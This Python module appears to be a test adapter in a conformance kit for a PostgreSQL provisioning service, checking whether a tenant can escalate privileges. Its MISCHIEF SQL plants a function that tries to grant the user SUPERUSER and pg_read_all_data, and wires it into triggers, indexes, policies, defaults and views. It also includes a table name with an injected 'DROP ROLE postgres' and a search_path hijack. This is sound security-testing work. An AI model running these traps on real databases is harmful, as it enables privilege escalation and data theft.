"""How an app uses a PostgreSQL: for the conformance kit."""

import re
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager, suppress
from typing import Any

import asyncpg

from purveyor_hooks import Account

TABLE = "CREATE TABLE IF NOT EXISTS things (name text PRIMARY KEY, value text)"
PUT = "INSERT INTO things VALUES ($1, $2) ON CONFLICT (name) DO UPDATE SET value = excluded.value"

# What is planned, read, loaded or maintained runs it; it takes what power the session has, and
# never fails.
MISCHIEF = """
DROP SCHEMA IF EXISTS mischief CASCADE
CREATE SCHEMA mischief
CREATE FUNCTION mischief.take() RETURNS void LANGUAGE plpgsql AS $$ BEGIN
    BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'ALTER ROLE {user} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'GRANT pg_read_all_data TO {user}'; EXCEPTION WHEN OTHERS THEN NULL; END;
END $$
CREATE FUNCTION mischief.same(i int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM mischief.take(); RETURN i; END $$
CREATE FUNCTION mischief.fires() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM mischief.take(); RETURN NEW; END $$
CREATE DOMAIN mischief.number AS int CHECK (mischief.same(VALUE) IS NOT NULL)
CREATE TABLE mischief.t (i int CHECK (mischief.same(i) > 0), j int GENERATED ALWAYS AS (mischief.same(i)) STORED)
INSERT INTO mischief.t VALUES (1)
CREATE INDEX ON mischief.t (mischief.same(i))
CREATE STATISTICS mischief.s ON mischief.same(i), i FROM mischief.t
CREATE TABLE mischief.d (k mischief.number DEFAULT mischief.same(7))
INSERT INTO mischief.d DEFAULT VALUES
CREATE TRIGGER fires BEFORE INSERT ON mischief.t FOR EACH ROW EXECUTE FUNCTION mischief.fires()
ALTER TABLE mischief.t ENABLE ALWAYS TRIGGER fires
ALTER TABLE mischief.t ENABLE ROW LEVEL SECURITY
ALTER TABLE mischief.t FORCE ROW LEVEL SECURITY
CREATE POLICY p ON mischief.t USING (mischief.same(i) > 0)
CREATE VIEW mischief.v AS SELECT mischief.same(1) AS x
CREATE MATERIALIZED VIEW mischief.m AS SELECT mischief.same(1) AS x
CREATE TABLE mischief."x"";DROP ROLE postgres;--" (i int)
ALTER DATABASE {database} SET search_path = public, mischief, pg_catalog
"""
GAINED = """
SELECT string_agg(rolname, ', ') FROM pg_roles
WHERE pg_has_role(current_user, oid, 'MEMBER')
AND (rolsuper OR rolcreaterole OR rolreplication OR rolbypassrls OR rolname ~ '^pg_')
"""


class Rows:
    """Things are rows of a table of the app's own."""

    def account(self, variables: Mapping[str, str]) -> Account:
        return Account(
            host=variables["POSTGRES_HOST"],
            port=int(variables["POSTGRES_PORT"]),
            user=variables["POSTGRES_USER"],
            password=variables["POSTGRES_PASSWORD"],
            resource=variables["POSTGRES_DATABASE"],
        )

    @asynccontextmanager
    async def _opened(self, account: Account) -> AsyncIterator[Any]:
        opened = await asyncpg.connect(
            host=account.host,
            port=account.port,
            user=account.user,
            password=account.password,
            database=account.resource,
            timeout=5,
        )
        try:
            yield opened
        finally:
            await opened.close()

    async def write(self, account: Account, name: str, value: str) -> None:
        async with self._opened(account) as opened:
            await opened.execute(TABLE)
            await opened.execute(PUT, name, value)

    async def read(self, account: Account, name: str) -> str | None:
        async with self._opened(account) as opened:
            if not await opened.fetchval("SELECT to_regclass('things')"):
                return None
            found: str | None = await opened.fetchval(
                "SELECT value FROM things WHERE name = $1", name
            )
            return found

    async def mischief(self, account: Account) -> None:
        async with self._opened(account) as opened:
            names = [
                await opened.fetchval("SELECT quote_ident($1)", name)
                for name in (account.user, account.resource)
            ]
            text = MISCHIEF.format(user=names[0], database=names[1])
            for statement in re.split(r"\n(?! |END)", text.strip()):
                with suppress(asyncpg.PostgresError):
                    await opened.execute(statement)

    async def gained(self, account: Account) -> str:
        async with self._opened(account) as opened:
            found = await opened.fetchval(GAINED)
            return f"it can act as {found}" if found else ""
